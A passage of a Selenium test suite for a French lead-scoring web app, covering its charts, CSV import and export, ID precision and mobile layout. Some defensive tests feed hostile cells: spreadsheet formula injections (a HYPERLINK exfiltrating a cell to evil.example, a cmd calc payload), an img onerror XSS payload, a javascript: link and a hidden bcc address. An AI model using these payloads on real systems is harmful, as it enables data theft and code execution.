        // The reliability chart: one dot per band of the holdout, placed from the API's numbers.
        waiting()
                .until(driver -> !byId("reliability")
                        .findElements(By.cssSelector("circle.band"))
                        .isEmpty());
        List<WebElement> dots = byId("reliability").findElements(By.cssSelector("circle.band"));
        assertThat(dots).hasSize(model.get("reliability").size());
        for (int i = 0; i < dots.size(); i++) {
            JsonNode band = model.get("reliability").get(i);
            assertThat(Double.parseDouble(dots.get(i).getAttribute("data-mean")))
                    .isEqualTo(band.get("mean_score").asDouble());
            assertThat(Double.parseDouble(dots.get(i).getAttribute("data-observed")))
                    .isEqualTo(band.get("observed_rate").asDouble());
        }

        JsonNode live = model.get("live").get("last_90_days");
        List<JsonNode> liveBands = new java.util.ArrayList<>();
        live.get("reliability").forEach(band -> {
            if (!band.get("live").isNull()) {
                liveBands.add(band.get("live"));
            }
        });
        List<WebElement> liveDots = byId("reliability").findElements(By.cssSelector("circle.live-band"));
        assertThat(liveDots).hasSize(liveBands.size()).isNotEmpty();
        for (int i = 0; i < liveDots.size(); i++) {
            assertThat(Double.parseDouble(liveDots.get(i).getAttribute("data-observed")))
                    .isEqualTo(liveBands.get(i).get("observed_rate").asDouble());
        }
        // The band around 80 with its own count, never the total; "sur 100" only when it holds 30 outcomes or more.
        int around80 = 0;
        for (JsonNode band : live.get("reliability")) {
            if (band.get("from").asInt() == 80 && !band.get("live").isNull()) {
                around80 = band.get("live").get("customers").asInt();
            }
        }
        if (around80 >= 30) {
            assertThat(summary)
                    .containsPattern("Sur 100 clients notés autour de \\d+ ces 90 derniers jours, \\d+ ont signé \\("
                            + around80 + " résultats reçus dans cette tranche\\)");
        } else if (around80 > 0) {
            assertThat(summary)
                    .contains("trop peu de résultats reçus ces 90 derniers jours pour dire combien signent sur 100 ("
                            + around80 + (around80 == 1 ? " résultat" : " résultats") + ", il en faut 30)")
                    .doesNotContainPattern("ces 90 derniers jours, \\d+ ont signé");
        }
        assertThat(summary).doesNotContainPattern("\\b[01] (clients|résultats|reçus)\\b");
        assertThat(byId("total_spent").getAttribute("value"))
                .as("the default amount written the French way")
                .isEqualTo("1500,50");
        assertThat(summary)
                .contains(
                        switch (model.get("live").get("live_status").asString()) {
                            case "insufficient" -> "Pas encore assez de résultats pour juger la promesse";
                            case "degraded" -> "La promesse ne tient plus";
                            default -> "La promesse tient sur les résultats reçus.";
                        });

        // The versions of the store, the serving one marked.
        waiting()
                .until(driver -> byId("versions")
                                .findElements(By.cssSelector("tr.serving"))
                                .size()
                        == 1);
        String auc = String.format(
                Locale.FRANCE, "%.3f", model.get("holdout").get("auc").asDouble());
        assertThat(byId("versions").findElement(By.cssSelector("tr.serving")).getText())
                .contains("★ en service", auc);
        assertThat(byId("versions").findElement(By.cssSelector("tr.serving")).getText())
                .contains("données d'exemple")
                .doesNotContain("sample data");
        ((JavascriptExecutor) browser).executeScript("window.scrollTo(0, 0)");
        screenshot("the-model");
        ((JavascriptExecutor) browser).executeScript("arguments[0].scrollIntoView()", byId("reliability"));
        screenshot("the-model-reliability");
    }

    @Test
    void shouldRankAFrenchWindows1252ExportWithNamesPhonesAndIdsKeptExactly() throws Exception {
        consoleErrors();
        browser.findElement(By.cssSelector("[data-tab=base]")).click();
        byId("csv-file").sendKeys(FRENCH_EXPORT.toAbsolutePath().toString());
        byId("batch-button").click();
        waiting()
                .until(driver -> byId("call-list")
                                .findElements(By.cssSelector("tbody tr"))
                                .size()
                        == 5);

        List<String> header = byId("call-list").findElements(By.cssSelector("thead th")).stream()
                .map(WebElement::getText)
                .toList();
        assertThat(header)
                .containsExactly(
                        "#",
                        "Nom",
                        "Société",
                        "Téléphone",
                        "Email",
                        "N° client",
                        "Score",
                        "Segment",
                        "Prochaine action",
                        "Étape suivante (selon le modèle)");
        List<WebElement> rows = byId("call-list").findElements(By.cssSelector("tbody tr"));
        assertThat(rows.stream()
                        .map(row -> Integer.parseInt(cell(row, "score").getText()))
                        .toList())
                .isSortedAccordingTo((a, b) -> b - a);
        WebElement first = rows.getFirst();
        assertThat(cell(first, "name").getText()).isEqualTo("Élise Crémieux");
        assertThat(cell(first, "company").getText()).isEqualTo("Crémerie du Marché");
        assertThat(cell(first, "phone").findElement(By.tagName("a")).getAttribute("href"))
                .isEqualTo("tel:0123456789");
        assertThat(cell(first, "email").findElement(By.tagName("a")).getAttribute("href"))
                .isEqualTo("mailto:elise@cremerie.fr");
        assertThat(cell(first, "segment").getText()).isEqualTo("Chaud");
        assertThat(cell(first, "next_action").getText()).isEqualTo("Appeler");
        // After the colon, the service's sentence goes on in lower case, as French typography wants.
        String atRisk = scorer.score(new Customer(1, 2, 25, 4000, 30, 27, 60, 700), Locale.FRENCH, false, true)
                .whatIf()
                .atRisk()
                .text();
        assertThat(atRisk).startsWith("Sans contact");
        assertThat(cell(first, "next_step").getText()).isEqualTo("Pour le garder Chaud : s" + atRisk.substring(1));
        WebElement gerard = rows.stream()
                .filter(row -> cell(row, "customer_id").getText().equals("CUST-007"))
                .findFirst()
                .orElseThrow();
        LeadScore cold = scorer.score(new Customer(7, 300, 1, 0, 40, 0, 0, 900), Locale.FRENCH, false, true);
        assertThat(cell(gerard, "next_step").getText())
                .isEqualTo("Pour le faire passer Tiède : "
                        + cold.whatIf().nextStep().text().substring(0, 1).toLowerCase(Locale.FRENCH)
                        + cold.whatIf().nextStep().text().substring(1));

        // Ids as written: 2^53 + 1 is not rounded onto its neighbour, text ids stay text.
        List<String> ids =
                rows.stream().map(row -> cell(row, "customer_id").getText()).toList();
        assertThat(ids)
                .containsExactlyInAnyOrder(
                        "9007199254740993", "9007199254740992", "CUST-007", "00Q5e00000AbCdE", "1042");
        assertThat(cell(first, "customer_id").getText()).isEqualTo("9007199254740993");

        type("row-search", "boulangerie");
        assertThat(byId("call-list").findElements(By.cssSelector("tbody tr")))
                .singleElement()
                .satisfies(row -> assertThat(cell(row, "customer_id").getText()).isEqualTo("CUST-007"));
        type("row-search", "");
        assertThat(consoleErrors()).isEmpty();
        screenshot("call-list-french-export");
    }

    @Test
    void shouldDownloadWhatExcelOpensCleanlyInFrenchAndInEnglish() throws Exception {
        browser.findElement(By.cssSelector("[data-tab=base]")).click();
        byId("csv-file").sendKeys(FRENCH_EXPORT.toAbsolutePath().toString());
        byId("batch-button").click();
        waiting()
                .until(driver -> byId("call-list")
                                .findElements(By.cssSelector("tbody tr"))
                                .size()
                        == 5);

        String french = download();
        assertThat(french).startsWith("\uFEFF");
        List<String> lines = french.substring(1).lines().toList();
        assertThat(lines.getFirst())
                .isEqualTo("Nom;Société;Téléphone;E-mail;customer_id;days_since_last_contact;total_contacts;"
                        + "total_spent;emails_sent;emails_opened;website_visits;customer_age_days;score;segment;probability;priority;"
                        + "next_action;recommendation;next_step;next_step_score;at_risk_after");
        assertThat(lines).hasSize(6);
        assertThat(lines.get(1))
                .startsWith(
                        "Élise Crémieux;Crémerie du Marché;01 23 45 67 89;elise@cremerie.fr;9007199254740993;2;25;4 000,00;")
                .containsPattern(";Chaud;0,\\d+;HAUTE;Appeler;🔥");
        screenshot("download-french");

        byId("language").click();
        waiting()
                .until(driver -> byId("call-list")
                        .findElements(By.cssSelector("thead th"))
                        .get(1)
                        .getText()
                        .equals("Name"));
        waiting().until(driver -> download().contains("HIGH priority"));
        String english = download();
        assertThat(english).startsWith("\uFEFF");
        List<String> englishLines = english.substring(1).lines().toList();
        assertThat(englishLines.getFirst())
                .startsWith("Nom,Société,Téléphone,E-mail,customer_id,")
                .endsWith(",score,segment,probability,priority,next_action,recommendation,next_step,next_step_score,"
                        + "at_risk_after");
        assertThat(englishLines.get(1))
                .startsWith(
                        "Élise Crémieux,Crémerie du Marché,01 23 45 67 89,elise@cremerie.fr,9007199254740993,2,25,\"4 000,00\",")
                .containsPattern(",Hot,0\\.\\d+,HIGH,Call,🔥");
        screenshot("download-english");
    }

    @Test
    void shouldShowTheModelsAnswerWhenTheFileHasItsOwnScoreSegmentAndNextAction() throws Exception {
        consoleErrors();
        List<WebElement> rows = rank(OWN_SCORES, 2);

        // The file says 301 is a 100 "Hot" to call and 302 a 2 "Cold" to drop; the list shows what the model says.
        Map<String, LeadScore> model = Map.of(
                "301", scorer.score(new Customer(301, 300, 1, 0, 40, 0, 0, 900)),
                "302", scorer.score(new Customer(302, 2, 25, 4000, 30, 27, 60, 700)));
        assertThat(model.get("301").score()).isLessThan(model.get("302").score());
        assertThat(rows.stream().map(row -> cell(row, "customer_id").getText()).toList())
                .containsExactly("302", "301");
        for (WebElement row : rows) {
            var expected = model.get(cell(row, "customer_id").getText());
            assertThat(cell(row, "score").getText()).isEqualTo(String.valueOf(expected.score()));
            assertThat(cell(row, "segment").getText())
                    .isEqualTo(FRENCH_SEGMENTS.get(expected.segment().label()));
            assertThat(cell(row, "next_action").getText())
                    .isEqualTo(FRENCH_ACTIONS.get(expected.nextAction().action()));
        }
        assertThat(byId("batch-result").getText()).doesNotContain("function", "native code", "[object");
        assertThat(byId("counts").getText())
                .contains("Chaud : "
                        + model.values().stream()
                                .filter(s -> s.segment().label().equals("Hot"))
                                .count());
        assertThat(byId("batch-note").getText())
                .contains("score (fichier)", "Priority (fichier)", "next_action (fichier)");
        screenshot("call-list-own-scores");

        // The download keeps the file's own columns, renamed, and the service's under their names; __proto__ and the
        // other names of Object's are the file's columns like any other.
        List<String> lines = download().substring(1).lines().toList();
        assertThat(lines.getFirst())
                .isEqualTo("Nom;Téléphone;customer_id;days_since_last_contact;total_contacts;total_spent;emails_sent;"
                        + "emails_opened;website_visits;customer_age_days;score (fichier);segment (fichier);probability (fichier);Priority (fichier);"
                        + "next_action (fichier);recommendation (fichier);__proto__;constructor;hasOwnProperty;toString;"
                        + "score;segment;probability;priority;next_action;recommendation;next_step;next_step_score;"
                        + "at_risk_after");
        var first = model.get("302");
        assertThat(lines.get(1))
                .startsWith("Client à appeler;06 12 34 56 78;302;2;25;4 000,00;30;27;60;700;2;Cold;0,01;LOW;toString;"
                        + "Laisser tomber;proto-302;constructor-302;own-302;text-302;" + first.score() + ";"
                        + FRENCH_SEGMENTS.get(first.segment().label()) + ";0,")
                .contains(";" + FRENCH_ACTIONS.get(first.nextAction().action()) + ";");

        byId("language").click();
        waiting().until(driver -> byId("batch-note").getText().contains("score (file)"));
        assertThat(byId("batch-note").getText()).doesNotContain("fichier");
        assertThat(download().lines().findFirst().orElseThrow())
                .contains(",score (file),segment (file),")
                .endsWith(",score,segment,probability,priority,next_action,recommendation,next_step,next_step_score,"
                        + "at_risk_after");
        assertThat(consoleErrors()).isEmpty();
    }

    @Test
    void shouldNeutraliseFormulaCellsInTheDownloadWhileNumbersStayNumbers() throws Exception {
        score(HOSTILE_CELLS, 3);
        List<CSVRecord> csv = CSVFormat.DEFAULT
                .builder()
                .setDelimiter(';')
                .get()
                .parse(new StringReader(download().substring(1)))
                .getRecords();
        List<String> header = csv.getFirst().toList();
        assertThat(header.subList(12, 16)).containsExactly("Solde", "Écart", "Note", "'@Note");
        Map<String, List<String>> byId = new HashMap<>();
        csv.subList(1, csv.size()).forEach(row -> byId.put(row.get(header.indexOf("customer_id")), row.toList()));

        // OWASP: a cell starting with = + - @ tab or carriage return gets a quote in front, the id included...
        List<String> formulas = byId.get("'=1+1");
        assertThat(formulas.subList(0, 4))
                .containsExactly(
                        "'=HYPERLINK(\"http://evil.example/?d=\"&A3;\"Voir la fiche\")",
                        "'@SUM(1+1)*cmd|' /C calc'!A0",
                        "'+33 4 11 22 33 44",
                        "lea@exemple.fr");
        assertThat(formulas.subList(14, 16)).containsExactly("'-2+3", "'\t=1+1");
        assertThat(byId.get("A-1234").subList(14, 16)).containsExactly("'\r@SUM(1)", "'-");
        // ...while a plain number stays a number, negative or with a decimal comma, and so do the service's figures.
        assertThat(formulas.subList(12, 14)).containsExactly("-12,5", "-12");
        assertThat(byId.get("A-1234").subList(12, 14)).containsExactly("1 234,56", "+5");
        assertThat(formulas.get(7)).isEqualTo("4 000,00");
        assertThat(formulas.get(header.indexOf("probability"))).matches("0,\\d+");
        for (var row : csv) {
            assertThat(row.toList())
                    .allSatisfy(value -> assertThat(value.isEmpty()
                                    || "=+-@\t\r".indexOf(value.charAt(0)) < 0
                                    || NUMBER.matcher(value).matches())
                            .as(value)
                            .isTrue());
        }
        screenshot("download-formulas");
    }

    @Test
    void shouldShowHostileCellsAsTextWithSafeLinksVisibleBidiControlsAndLongCellsCut() throws Exception {
        consoleErrors();
        String title = browser.getTitle();
        List<WebElement> rows = rank(HOSTILE_CELLS, 3);
        Map<String, WebElement> byId = new HashMap<>();
        rows.forEach(row -> byId.put(cell(row, "customer_id").getText(), row));

        // File content is text, never HTML.
        // The service refuses such controls in ids; in the file's other columns the page shows them as such.
        WebElement html = byId.get("A-1234");
        assertThat(cell(html, "phone").getText()).isEqualTo("javascript:alert(1)[U+202E]");
        assertThat(cell(html, "name").getText()).isEqualTo("<img src=x onerror=\"document.title='pwned'\">");
        assertThat(cell(html, "company").getText()).isEqualTo("Café <b>des Arts</b>");
        assertThat(byId("call-list").findElements(By.cssSelector("tbody img, tbody b")))
                .isEmpty();
        assertThat(browser.getTitle()).isEqualTo(title);

        // Links are tel: and mailto: to a phone number and an address, nothing else.
        assertThat(cell(html, "phone").findElements(By.tagName("a"))).isEmpty();
        assertThat(cell(html, "email").findElements(By.tagName("a")))
                .as("an address with ?bcc= added")
                .isEmpty();
        assertThat(cell(html, "email").getText()).isEqualTo("boss@corp.fr?bcc=spy@evil.example");
        WebElement formulas = byId.get("=1+1");
        assertThat(cell(formulas, "phone").findElement(By.tagName("a")).getAttribute("href"))
                .isEqualTo("tel:+33411223344");
        assertThat(cell(formulas, "email").findElement(By.tagName("a")).getAttribute("href"))
                .isEqualTo("mailto:lea@exemple.fr");
        assertThat(byId("call-list").findElements(By.cssSelector("tbody a")))
                .allSatisfy(
                        link -> assertThat(link.getAttribute("href")).matches("tel:\\+?\\d+|mailto:[^?&:/]+@[^?&:/]+"));

        // Cells of 5 000 characters are cut on screen (whole in the search and the download), so the list stays
        // readable.
        WebElement longCells = byId.get("CUST-3");
        assertThat(cell(longCells, "name").getText())
                .startsWith("Très long xxx")
                .endsWith("…")
                .hasSizeLessThanOrEqualTo(101);
        assertThat(cell(longCells, "name").getAttribute("title")).startsWith("Très long xxx");
        assertThat(cell(longCells, "email").findElements(By.tagName("a"))).isEmpty();
        JavascriptExecutor page = (JavascriptExecutor) browser;
        assertThat((Long) page.executeScript("const box = document.querySelector('#batch-result .table-wrap');"
                        + "return box.scrollWidth - box.clientWidth;"))
                .isLessThanOrEqualTo(0);
        assertThat(byId("call-list").getText()).doesNotContain("\u202e");
        assertThat(consoleErrors()).isEmpty();
        screenshot("call-list-hostile-cells");
        type("row-search", "yyyyyyyy");
        assertThat(byId("call-list").findElements(By.cssSelector("tbody tr")))
                .singleElement()
                .satisfies(row -> assertThat(cell(row, "customer_id").getText()).isEqualTo("CUST-3"));
    }

    @Test
    void shouldDrawTheFirstThousandCustomersOfABigBaseAndSearchAndDownloadThemAll() throws Exception {
        // 1 200 customers, 1 000 columns of their own (the last one holding their number): the list draws 1 000 rows,
        // so
        // typing in the search stays quick.
        StringBuilder file =
                new StringBuilder("customer_id;days_since_last_contact;total_contacts;total_spent;emails_sent;"
                        + "emails_opened;website_visits;customer_age_days");
        for (int column = 0; column < 1000; column++) {
            file.append(";colonne ").append(column);
        }
        for (int customer = 1; customer <= 1200; customer++) {
            file.append("\r\n")
                    .append(String.format("C-%04d;", customer))
                    .append(customer % 300)
                    .append(";5;")
                    .append(customer)
                    .append(";20;10;5;400")
                    .append(";".repeat(1000))
                    .append(customer);
        }
        Path big = Files.writeString(Path.of("target", "big-base.csv"), file);
        score(big, 1000);
        assertThat(byId("list-note").getText().replace('\u202f', ' ').replace('\u00a0', ' '))
                .isEqualTo(
                        "Les 1 000 premiers clients sur 1 200 sont affichés ; la recherche, le segment et le téléchargement portent sur tous.");
        List<String> lines = download().substring(1).lines().toList();
        assertThat(lines).hasSize(1201);
        assertThat(lines.getFirst().split(";", -1)).hasSize(1017);
        String[] lastLine = lines.getLast().split(";", -1);
        String last = lastLine[0];
        assertThat(lastLine[1007]).isEqualTo(String.valueOf(Integer.parseInt(last.substring(2))));
        assertThat(lastLine[1008])
                .as("the service's score, after the file's columns")
                .matches("\\d+");
        type("row-search", last);
        waiting().until(driver -> rowsDrawn("call-list") == 1);
        assertThat(cell(byId("call-list").findElement(By.cssSelector("tbody tr")), "customer_id")
                        .getText())
                .isEqualTo(last);
        assertThat(byId("list-note").isDisplayed()).isFalse();
    }

    /** Picks a CSV file on the base tab, scores it and waits for its rows in the call list. */
    private List<WebElement> rank(Path file, int customers) {
        score(file, customers);
        return byId("call-list").findElements(By.cssSelector("tbody tr"));
    }

    /** Picks a CSV file on the base tab, scores it and waits until the call list draws {@code customers} rows. */
    private void score(Path file, int customers) {
        browser.findElement(By.cssSelector("[data-tab=base]")).click();
        byId("csv-file").sendKeys(file.toAbsolutePath().toString());
        byId("batch-button").click();
        waiting().until(driver -> rowsDrawn("call-list") == customers);
    }

    /**
     * The rows a table draws, counted in the page: one round trip, where fetching the rows themselves would bring back
     * a reference per row on every try of a wait (a thousand for a big base).
     */
    private long rowsDrawn(String table) {
        return (Long) ((JavascriptExecutor) browser)
                .executeScript("return document.querySelectorAll('#' + arguments[0] + ' tbody tr').length", table);
    }

    /** The file the download button writes, caught where the page hands it to the browser. */
    private String download() {
        return download("download");
    }

    /** The file a download button writes, caught where the page hands it to the browser. */
    private String download(String button) {
        JavascriptExecutor page = (JavascriptExecutor) browser;
        // The blob is kept and the link not followed: the test reads what the user's browser would save.
        page.executeScript(
                "window.__downloads = []; URL.createObjectURL = (blob) => { window.__downloads.push(blob); return 'about:blank'; };"
                        + "HTMLAnchorElement.prototype.click = function () { };");
        byId(button).click();
        return (String)
                page.executeAsyncScript(
                        "const done = arguments[arguments.length - 1];"
                                + "window.__downloads[0].arrayBuffer().then((b) => done(new TextDecoder('utf-8', {ignoreBOM: true}).decode(b)));");
    }

    /** From now on, keeps the body of each score the page asks the service for (window.__scores). */
    private void recordRequests() {
        ((JavascriptExecutor) browser)
                .executeScript("window.__scores = [];"
                        + "if (!window.__send) { window.__send = window.fetch; window.fetch = (url, options) => {"
                        + "  if (String(url).startsWith('/api/score')) window.__scores.push(options.body);"
                        + "  return window.__send(url, options); }; }");
    }

    @SuppressWarnings("unchecked")
    private List<String> scoreRequests() {
        return (List<String>) ((JavascriptExecutor) browser).executeScript("return window.__scores;");
    }

    /** Customers scored since the service started, as /api/stats counts them. */
    private long customersScored() throws Exception {
        JsonNode perSegment = json.readTree(get("/api/stats")).get("service").get("per_segment");
        return perSegment.get("Hot").asLong()
                + perSegment.get("Warm").asLong()
                + perSegment.get("Cold").asLong();
    }

    private static WebElement cell(WebElement row, String column) {
        return row.findElement(By.cssSelector("td[data-column=" + column + "]"));
    }

    private String get(String path) throws Exception {
        return new LocalService(port).get(path).body();
    }

    @Test
    void shouldFitAPhoneScreenWithTheCallListScrollingInsideItsBox() throws IOException {
        browser.manage().window().setSize(new Dimension(390, 844));
        browser.get("http://localhost:" + port + "/");
        JavascriptExecutor page = (JavascriptExecutor) browser;
        assertThat((Long) page.executeScript("return document.documentElement.scrollWidth - window.innerWidth;"))
                .isLessThanOrEqualTo(0);
        screenshot("phone");

        browser.findElement(By.cssSelector("[data-tab=base]")).click();
        byId("csv-file").sendKeys(FRENCH_EXPORT.toAbsolutePath().toString());
        byId("batch-button").click();
        waiting()
                .until(driver -> byId("call-list")
                                .findElements(By.cssSelector("tbody tr"))
                                .size()
                        == 5);
        assertThat((Long) page.executeScript("return document.documentElement.scrollWidth - window.innerWidth;"))
                .isLessThanOrEqualTo(0);
        page.executeScript("arguments[0].scrollIntoView()", byId("counts"));
        screenshot("phone-call-list");
        browser.findElement(By.cssSelector("[data-tab=model]")).click();
        waiting()
                .until(driver -> !byId("reliability")
                        .findElements(By.cssSelector("circle.band"))
                        .isEmpty());
        assertThat((Long) page.executeScript("return document.documentElement.scrollWidth - window.innerWidth;"))
                .isLessThanOrEqualTo(0);
        page.executeScript("arguments[0].scrollIntoView()", byId("reliability"));
        screenshot("phone-model");
    }
}
